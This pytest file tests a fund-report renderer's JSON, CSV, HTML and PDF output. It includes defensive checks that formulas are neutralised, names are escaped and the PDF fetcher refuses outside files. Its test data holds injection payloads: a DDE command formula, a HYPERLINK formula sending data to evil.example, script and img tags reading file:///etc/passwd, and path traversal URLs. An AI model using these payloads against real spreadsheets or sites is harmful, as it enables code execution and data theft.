"""The four formats of a report, on synthetic reports: JSON amounts are decimal strings with their
drill-down link; CSV cells that could start a formula are neutralised and numbers parse back exactly;
HTML escapes whatever a name holds; the PDF speaks each locale with Babel's figures and a page X of Y
footer; WeasyPrint's fetcher serves the project's own files and refuses everything else."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import lxml.html
import pytest
from babel.dates import format_date
from babel.numbers import parse_decimal
from hypothesis import given
from hypothesis import strategies as st
from pypdf import PdfReader
from weasyprint import HTML

from fundapp.core.errors import InvalidInput
from ledger.money import exponent
from reports import i18n, render, rules
from reports.document import (
    Amount,
    Column,
    ColumnKind,
    EntryQuery,
    Label,
    Note,
    Ratio,
    Report,
    Row,
    RowStyle,
    Table,
)
from reports.rules import ReportFormat
from reports.schemas import ReportOut

i18n.register(
    {
        "test_render.title": {
            "en": "Sources and uses of funds",
            "es": "Fuentes y usos de los fondos",
            "fr": "Sources et utilisations des fonds",
        },
        "test_render.table": {"en": "Sources", "es": "Fuentes", "fr": "Sources"},
        "test_render.item": {"en": "Item", "es": "Partida", "fr": "Poste"},
        "test_render.amount": {"en": "Amount", "es": "Importe", "fr": "Montant"},
        "test_render.count": {"en": "Grants", "es": "Donaciones", "fr": "Subventions"},
        "test_render.share": {"en": "Share", "es": "Proporción", "fr": "Part"},
        "test_render.since": {"en": "Since", "es": "Desde", "fr": "Depuis"},
        "test_render.contributions": {"en": "Contributions", "es": "Contribuciones", "fr": "Contributions"},
        "test_render.total": {"en": "Total", "es": "Total", "fr": "Total"},
        "test_render.note": {"en": "Accounting policies", "es": "Políticas contables", "fr": "Méthodes comptables"},
        "test_render.policy": {
            "en": "Contributions are revenue when received.",
            "es": "Las contribuciones son ingresos cuando se reciben.",
            "fr": "Les contributions sont des produits à leur réception.",
        },
    }
)

HEAD = "9f" * 32
CONTRIBUTIONS = EntryQuery(accounts=("4100", "4200"), date_from=date(2025, 1, 1), date_to=date(2025, 12, 31))
COLUMNS = (
    Column("item", Label("test_render.item"), ColumnKind.TEXT),
    Column("amount", Label("test_render.amount"), ColumnKind.MONEY),
    Column("grants", Label("test_render.count"), ColumnKind.COUNT),
    Column("share", Label("test_render.share"), ColumnKind.PERCENT),
    Column("since", Label("test_render.since"), ColumnKind.DATE),
)
TOTAL_MINOR = 123_456_789  # 1,234,567.89 USD


def report(*names: str, total: int = TOTAL_MINOR, subject: str = "") -> Report:
    """A small report: one line per name (data text), one translated line and a total."""
    lines = tuple(
        Row((name, Amount(-125_000 - i, "EUR"), 3, Ratio.of(1, 3), date(2025, 2, 1)), level=1)
        for i, name in enumerate(names)
    )
    rows = (
        Row((Label("test_render.contributions"), Amount(total, "USD", CONTRIBUTIONS), 12, Ratio.of(0, 0), None)),
        *lines,
        Row(
            (Label("test_render.total"), Amount(total, "USD", CONTRIBUTIONS), 12, Ratio(Decimal(1)), None),
            RowStyle.TOTAL,
        ),
    )
    return Report(
        name="sources-and-uses",
        title=Label("test_render.title"),
        currency="USD",
        generated_at=datetime(2026, 3, 16, 9, 30, tzinfo=UTC),
        ledger_head=HEAD,
        date_from=date(2025, 1, 1),
        date_to=date(2025, 12, 31),
        tables=(Table("sources", Label("test_render.table"), COLUMNS, rows),),
        subject=subject,
        notes=(Note(Label("test_render.note"), (Label("test_render.policy"), "Data text, = not a formula")),),
        parameters={"date_from": "2025-01-01", "date_to": "2025-12-31"},
    )


def spaces_normalised(text: str) -> str:
    """Babel puts no-break and narrow no-break spaces in figures; a PDF's text layer may give plain ones."""
    return re.sub(r"[\s\u00a0\u202f\u2009]+", " ", text)


# ---------------------------------------------------------------- JSON


def test_json_money_is_a_decimal_string_with_its_currency_and_drill_down_link() -> None:
    body = render.to_json(report("Acme"), "en")
    ReportOut.model_validate(body)  # the documented shape, nothing more
    first, line, total = body["tables"][0]["rows"]
    assert first["cells"][1] == {"amount": "1234567.89", "currency": "USD", "entries": CONTRIBUTIONS.url()}
    assert first["cells"][1]["entries"] == (
        "/api/v1/ledger/entries?account=4100%2C4200&date_from=2025-01-01&date_to=2025-12-31"
    )
    assert line["cells"] == [
        "Acme",
        {"amount": "-1250.00", "currency": "EUR", "entries": None},
        3,
        "0.333333",
        "2025-02-01",
    ]
    assert (first["cells"][3], total["cells"][3], total["style"], line["level"]) == (None, "1.000000", "total", 1)
    # the whole document survives a JSON round trip without a float anywhere
    assert json.loads(json.dumps(body), parse_float=lambda s: pytest.fail(f"a float in the JSON: {s}")) == body


@pytest.mark.parametrize(
    ("locale", "title", "label"),
    [
        ("en", "Sources and uses of funds", "Contributions"),
        ("es", "Fuentes y usos de los fondos", "Contribuciones"),
        ("fr", "Sources et utilisations des fonds", "Contributions"),
    ],
)
def test_json_labels_are_translated_and_data_text_is_not(locale: str, title: str, label: str) -> None:
    body = render.to_json(report("Fundación Acme"), locale)
    assert (body["title"], body["locale"], body["tables"][0]["rows"][0]["cells"][0]) == (title, locale, label)
    assert body["tables"][0]["rows"][1]["cells"][0] == "Fundación Acme"
    assert body["notes"][0]["paragraphs"][1] == "Data text, = not a formula"


def test_a_closed_report_is_the_same_bytes_whenever_it_is_generated() -> None:
    """Closed through its last day, a report's head is fixed and its JSON and CSV carry no generation time."""
    closed = replace(report("Acme"), closed=True)
    later = replace(closed, generated_at=datetime(2027, 1, 1, tzinfo=UTC))
    for fmt in (ReportFormat.JSON, ReportFormat.CSV):
        assert render.encode(closed, fmt, "es") == render.encode(later, fmt, "es")
    body = render.to_json(closed, "en")
    assert (body["closed"], body["ledger_head"], body["generated_at"]) == (True, HEAD, None)
    rows = csv_rows(render.to_csv(closed, "en"))
    assert ["", "closed", "0", "true"] in rows
    assert ["", "ledger_head", "0", HEAD] in rows
    assert not [r for r in rows if r[1] == "generated_at"]


def test_an_open_report_says_when_it_was_generated() -> None:
    open_report = report("Acme")
    body = render.to_json(open_report, "en")
    assert (body["closed"], body["ledger_head"], body["generated_at"]) == (False, HEAD, "2026-03-16T09:30:00+00:00")
    rows = csv_rows(render.to_csv(open_report, "en"))
    assert ["", "closed", "0", "false"] in rows
    assert ["", "generated_at", "0", "2026-03-16T09:30:00+00:00"] in rows
    later = replace(open_report, generated_at=datetime(2027, 1, 1, tzinfo=UTC))
    assert render.encode(open_report, ReportFormat.JSON, "en") != render.encode(later, ReportFormat.JSON, "en")


# ---------------------------------------------------------------- CSV

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "   =1+1",
    " @SUM(A1)",
    "-",
]
HARMLESS = ["Acme", "1 000 contributors", "Fondo =1", "ACME-Foundation", "'quoted already", ""]


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("name", FORMULAS)
def test_csv_neutralises_text_that_could_start_a_formula(name: str) -> None:
    rows = csv_rows(render.to_csv(report(name, subject=name), "en"))
    line = next(r for r in rows if r[:3] == ["sources", "line", "1"])
    assert line[3] == "'" + name
    subject = next(r for r in rows if r[1] == "subject")
    assert subject[3] == "'" + name


@pytest.mark.parametrize("name", HARMLESS)
def test_csv_leaves_harmless_text_as_it_is(name: str) -> None:
    rows = csv_rows(render.to_csv(report(name), "en"))
    assert next(r for r in rows if r[:3] == ["sources", "line", "1"])[3] == name


def test_csv_layout_numbers_stay_numbers_and_headers_are_translated() -> None:
    rows = csv_rows(render.to_csv(report("Acme"), "fr"))
    assert rows[0] == ["tableau", "ligne", "niveau", "valeurs"]
    assert rows[1] == ["", "report", "0", "sources-and-uses", "Sources et utilisations des fonds"]
    assert ["", "period", "0", "2025-01-01", "2025-12-31"] in rows
    assert ["", "currency", "0", "USD"] in rows
    assert ["sources", "title", "0", "Sources"] in rows
    assert ["sources", "header", "0", "Poste", "Montant", "Devise", "Subventions", "Part", "Depuis"] in rows
    assert ["sources", "line", "0", "Contributions", "1234567.89", "USD", "12", "", ""] in rows
    # a negative amount is a number, not a neutralised text
    assert ["sources", "line", "1", "Acme", "-1250.00", "EUR", "3", "0.333333", "2025-02-01"] in rows
    assert ["sources", "total", "0", "Total", "1234567.89", "USD", "12", "1.000000", ""] in rows
    assert rows[-1] == [
        "notes",
        "note",
        "1",
        "Méthodes comptables",
        "Les contributions sont des produits à leur réception.",
        "Data text, = not a formula",
    ]


CURRENCIES = st.sampled_from(["USD", "EUR", "JPY", "KWD", "CHF", "XOF"])


@given(minor=st.integers(min_value=-(10**15), max_value=10**15), currency=CURRENCIES)
def test_amounts_parse_back_to_the_exact_decimal(minor: int, currency: str) -> None:
    amount = Amount(minor, currency)
    table = Table("t", Label("test_render.table"), COLUMNS[:2], (Row(("x", amount)),))
    one = replace(report(), tables=(table,))
    exact = Decimal(minor).scaleb(-exponent(currency))
    line = next(r for r in csv_rows(render.to_csv(one, "es")) if r[:2] == ["t", "line"])
    assert (Decimal(line[4]), line[5]) == (exact, currency)
    assert Decimal(line[4]).as_tuple().exponent == -exponent(currency)
    cell = render.to_json(one, "fr")["tables"][0]["rows"][0]["cells"][1]
    assert Decimal(cell["amount"]) == exact


@given(text=st.text(max_size=30))
def test_neutralise_never_leaves_a_formula_start(text: str) -> None:
    cell = rules.neutralise(text)
    assert not cell.lstrip(" ").startswith(rules.FORMULA_STARTS)
    assert cell in (text, "'" + text)


# ---------------------------------------------------------------- HTML

MALICIOUS = (
    "<script>alert('x')</script></style><style>body{background:url(http://evil.example/x.png)}</style>"
    '<a href="file:///etc/passwd">passwd</a><img src="file:///etc/passwd">'
)


def test_html_escapes_every_name_and_keeps_the_drill_down_links() -> None:
    page = render.to_html(report(MALICIOUS, subject=MALICIOUS), "en", facility_name='Facility "}</style><b>')
    assert "<script" not in page
    assert "<img" not in page
    tree = lxml.html.document_fromstring(page)
    for style in tree.xpath("//style"):  # names reach the page rules only as escaped CSS strings
        assert "url(" not in style.text
        assert "evil.example" not in style.text
        assert "</" not in style.text
    assert tree.xpath("//script | //img | //iframe | //object") == []
    assert len(tree.xpath("//style")) == 2  # the project's stylesheet and the page rules, nothing injected
    assert tree.xpath("//b") == []
    hrefs = [a.get("href") for a in tree.xpath("//a")]
    assert hrefs == [CONTRIBUTIONS.url(), CONTRIBUTIONS.url()]  # the two contributions figures, no injected link
    texts = [td.text_content() for td in tree.xpath("//tbody/tr/td[1]")]
    assert MALICIOUS in texts  # shown as literal text
    assert tree.xpath("string(//p[@class='subject'])") == MALICIOUS


# The CLDR locale that writes each report locale: English as the United Nations write it (British).
CLDR = {"en": "en_GB", "es": "es", "fr": "fr"}


def figure_with_code(text: str, locale: str) -> tuple[Decimal, str]:
    """A figure shown with its currency's ISO code (a column of several currencies): the number, the code."""
    code = re.search(r"[A-Z]{3}", text)
    assert code is not None, text
    number = re.sub(r"\s*[A-Z]{3}\s*", "", text)  # the code and the space that sets it apart
    return parse_decimal(number, locale=CLDR[locale], strict=True), code.group(0)


@pytest.mark.parametrize("locale", ["en", "es", "fr"])
def test_html_formats_figures_and_dates_with_babel(locale: str) -> None:
    tree = lxml.html.document_fromstring(render.to_html(report("Acme"), locale))
    assert tree.get("lang") == locale
    total = Decimal(TOTAL_MINOR).scaleb(-2)
    # The column holds USD and EUR: each figure says its currency's code.
    shown = tree.xpath("string(//tr[contains(@class, 'total')]/td[2])")
    assert figure_with_code(shown, locale) == (total, "USD")
    line = tree.xpath("string(//tr[contains(@class, 'level-1')]/td[2])")
    assert figure_with_code(line, locale) == (Decimal("-1250.00"), "EUR")
    assert format_date(date(2025, 12, 31), format="long", locale=CLDR[locale]) in tree.xpath("string(//dl)")
    assert HEAD in tree.xpath("string(//dd[@class='hash'])")


@pytest.mark.parametrize("locale", ["en", "es", "fr"])
def test_a_table_in_one_currency_says_it_once(locale: str) -> None:
    one = report()  # only the USD lines
    tree = lxml.html.document_fromstring(render.to_html(one, locale))
    shown = tree.xpath("string(//tr[contains(@class, 'total')]/td[2])")
    assert parse_decimal(shown, locale=CLDR[locale], strict=True) == Decimal(TOTAL_MINOR).scaleb(-2)
    said = tree.xpath("string(//section[@id='table-sources']/p[@class='currency'])")
    assert "(USD)" in said
    assert "USD" not in " ".join(tree.xpath("//tbody//td/text()"))


@given(text=st.text(max_size=40))
def test_css_strings_cannot_be_closed(text: str) -> None:
    quoted = rules.css_string(text)
    inner = quoted[1:-1]
    assert quoted[0] == quoted[-1] == '"'
    assert re.fullmatch(r"([A-Za-z0-9 ]|\\[0-9a-f]{1,6} )*", inner)
    # CSS reads an escape's hexadecimal digits and drops the one space that ends it.
    decoded = re.sub(r"\\([0-9a-f]{1,6}) ", lambda m: chr(int(m.group(1), 16)), inner)
    assert decoded == text


# ---------------------------------------------------------------- the fetcher

ASSETS = render.ASSETS_DIR


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "http://example.org/report.css",
        "https://example.org/report.css",
        "ftp://example.org/report.css",
        "data:text/css,body{color:red}",
        f"{ASSETS.as_uri()}/../render.py",
        f"{ASSETS.as_uri()}/%2e%2e/render.py",
        f"{ASSETS.as_uri()}/../../pyproject.toml",
        f"file://example.org{ASSETS}/report.css",
        ASSETS.as_uri(),  # a folder
        f"{ASSETS.as_uri()}/missing.css",
        "report.css",  # not absolute
    ],
)
def test_the_fetcher_refuses_everything_outside_the_project(url: str) -> None:
    fetcher = render.ProjectFetcher()
    with pytest.raises(render.ResourceRefused):
        fetcher.fetch(url)
    assert fetcher.requested == [url]


def test_the_fetcher_refuses_a_link_that_leaves_the_assets(tmp_path: Path) -> None:
    outside = tmp_path / "secret.css"
    outside.write_text("body { color: red }")
    link = tmp_path / "inside"
    link.symlink_to(ASSETS)
    # a symbolic link is followed before the check: a path through it to the assets is fine, the file
    # it names outside is not
    assert render.project_file((link / "report.css").as_uri()) == ASSETS / "report.css"
    with pytest.raises(render.ResourceRefused):
        render.project_file(outside.as_uri())


def test_the_fetcher_serves_the_stylesheet_and_templates() -> None:
    fetcher = render.ProjectFetcher()
    response = fetcher.fetch(f"{ASSETS.as_uri()}/report.css")
    assert response.read() == (ASSETS / "report.css").read_bytes()
    assert response.content_type == "text/css"
    template = fetcher.fetch((render.TEMPLATES_DIR / "report.html.j2").as_uri())
    assert template.read() == (render.TEMPLATES_DIR / "report.html.j2").read_bytes()


def test_weasyprint_gets_nothing_the_fetcher_refuses() -> None:
    """A page that asks for a file elsewhere, a remote stylesheet and a data image still renders, with none of
    them: the fetcher was asked and refused each one."""
    fetcher = render.ProjectFetcher()
    page = (
        '<html><head><link rel="stylesheet" href="report.css">'
        '<link rel="stylesheet" href="http://evil.example/x.css">'
        '<link rel="stylesheet" href="file:///etc/passwd"></head>'
        '<body><p>Body</p><img src="file:///etc/hostname"><img src="data:image/png;base64,iVBORw0KGgo=">'
        '<div style="background: url(../render.py)"></div></body></html>'
    )
    pdf = HTML(string=page, base_url=ASSETS.as_uri() + "/", url_fetcher=fetcher).write_pdf()
    assert PdfReader(io.BytesIO(pdf)).pages[0].extract_text().strip() == "Body"
    assert set(fetcher.requested) == {
        f"{ASSETS.as_uri()}/report.css",
        "http://evil.example/x.css",
        "file:///etc/passwd",
        "file:///etc/hostname",
        "data:image/png;base64,iVBORw0KGgo=",
        f"{render.PACKAGE_DIR.as_uri()}/render.py",
    }
    assert b"root:" not in pdf


# ---------------------------------------------------------------- PDF

PAGE_OF = {"en": r"Page 1 of (\d+)", "es": r"Página 1 de (\d+)", "fr": r"Page 1 sur (\d+)"}


@pytest.mark.parametrize("locale", ["en", "es", "fr"])
def test_pdf_page_one_has_the_title_a_babel_total_and_page_x_of_y(locale: str) -> None:
    one = report(*(f"Organisation {n}" for n in range(60)))  # long enough for a second page
    fetcher = render.ProjectFetcher()
    pdf = PdfReader(io.BytesIO(render.to_pdf(one, locale, facility_name="Test Facility", fetcher=fetcher)))
    first = spaces_normalised(pdf.pages[0].extract_text())
    assert i18n.text(one.title, locale) in first
    assert "Test Facility" in first
    total = render.display(Amount(TOTAL_MINOR, "USD"), locale)
    assert figure_with_code(total, locale) == (Decimal(TOTAL_MINOR).scaleb(-2), "USD")
    assert spaces_normalised(total) in first
    pages = re.search(PAGE_OF[locale], first)
    assert pages is not None, first
    assert int(pages.group(1)) == len(pdf.pages) >= 2
    assert HEAD in first.replace(" ", "")
    assert spaces_normalised(format_date(date(2025, 1, 1), format="long", locale=CLDR[locale])) in first
    assert fetcher.requested == [f"{ASSETS.as_uri()}/report.css"]


def test_pdf_shows_a_malicious_name_as_text_and_fetches_nothing_for_it() -> None:
    fetcher = render.ProjectFetcher()
    name = "<script>x</script><img src='file:///etc/passwd'> url(http://evil.example/a.png)"
    pdf = render.to_pdf(report(name, subject=name), "en", fetcher=fetcher)
    first = spaces_normalised(PdfReader(io.BytesIO(pdf)).pages[0].extract_text())
    assert spaces_normalised(name) in first
    assert fetcher.requested == [f"{ASSETS.as_uri()}/report.css"]
    assert b"/URI" not in pdf  # no link at all in the printed report (drill-down links are the JSON's and HTML's)


# ---------------------------------------------------------------- parameters


@pytest.mark.parametrize(
    ("requested", "accept", "expected"),
    [
        (None, None, ReportFormat.JSON),
        (None, "*/*", ReportFormat.JSON),
        (None, "text/csv", ReportFormat.CSV),
        (None, "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", ReportFormat.HTML),
        (None, "application/pdf;q=0.5, text/csv;q=0.9", ReportFormat.CSV),
        (None, "application/pdf, text/csv", ReportFormat.PDF),
        (None, "text/csv;q=0, image/png", ReportFormat.JSON),
        ("pdf", "text/csv", ReportFormat.PDF),  # the parameter wins
    ],
)
def test_the_format_parameter_wins_then_accept_then_json(
    requested: str | None, accept: str | None, expected: ReportFormat
) -> None:
    assert rules.choose_format(requested, accept) is expected


def test_an_unknown_format_or_locale_names_the_field() -> None:
    with pytest.raises(InvalidInput) as refused:
        rules.choose_format("xlsx", None)
    assert [(e.field, e.rule) for e in refused.value.errors] == [("format", "one_of")]
    with pytest.raises(InvalidInput) as refused:
        rules.choose_locale("de", "fr")
    assert [(e.field, e.rule) for e in refused.value.errors] == [("locale", "one_of")]
    assert rules.choose_locale(None, "de-CH, fr;q=0.8, en;q=0.5") == "fr"


def test_periods_years_and_dates() -> None:
    today = date(2026, 3, 16)
    assert rules.check_period(None, None, today) == rules.Period(None, today)
    with pytest.raises(InvalidInput) as refused:
        rules.check_period(date(2026, 6, 1), date(2026, 5, 1), today)
    assert {(e.field, e.rule) for e in refused.value.errors} == {
        ("date_to", "not-in-future"),
        ("date_from", "not_after_date_to"),
    }
    with pytest.raises(InvalidInput) as refused:
        rules.check_as_of(date(2026, 3, 17), today)
    assert [(e.field, e.rule) for e in refused.value.errors] == [("as_of", "not-in-future")]
    assert rules.check_as_of(None, today) == today
    for year, rule in ((None, "missing"), (1899, "out_of_range"), (3000, "out_of_range"), (2027, "not-in-future")):
        with pytest.raises(InvalidInput) as refused:
            rules.check_year(year, today)
        assert [(e.field, e.rule) for e in refused.value.errors] == [("year", rule)]
    assert rules.check_year(2026, today) == 2026  # the year under way: interim statements
    assert rules.check_year(1900, today) == 1900


def test_download_names_are_plain_ascii() -> None:
    one = report("Acme")
    assert render.filename(one, ReportFormat.PDF, "es", "Wíndow/../x") == (
        "sources-and-uses_W-ndow----x_2025-01-01_2025-12-31_es.pdf"
    )
    assert render.filename(replace(one, date_from=None), ReportFormat.CSV, "en") == (
        "sources-and-uses_inception_2025-12-31_en.csv"
    )


@pytest.mark.parametrize(
    ("text", "first", "last"),
    [
        ("2025", date(2025, 1, 1), date(2025, 12, 31)),
        ("2025-Q1", date(2025, 1, 1), date(2025, 3, 31)),
        ("2024-q4", date(2024, 10, 1), date(2024, 12, 31)),
        ("2024-02", date(2024, 2, 1), date(2024, 2, 29)),
        ("2025-12", date(2025, 12, 1), date(2025, 12, 31)),
        ("2025-01-15..2025-02-10", date(2025, 1, 15), date(2025, 2, 10)),
        ("..2025-06-30", None, date(2025, 6, 30)),
    ],
)
def test_a_period_is_read_as_people_write_it(text: str, first: date | None, last: date) -> None:
    assert rules.parse_period(text) == rules.Period(first, last)


@pytest.mark.parametrize("text", ["", "25", "2025-13", "2025-Q5", "2025-02-30..2025-03-01", "2025-03-01..", "May"])
def test_a_period_that_is_not_one_is_refused_naming_the_forms(text: str) -> None:
    with pytest.raises(InvalidInput) as refused:
        rules.parse_period(text)
    assert refused.value.errors[0].field == "period" and "2025-Q2" in refused.value.detail


def test_a_period_that_ends_before_it_starts_is_refused() -> None:
    with pytest.raises(InvalidInput) as refused:
        rules.parse_period("2025-06-30..2025-01-01")
    assert refused.value.rule == "not_after_date_to"
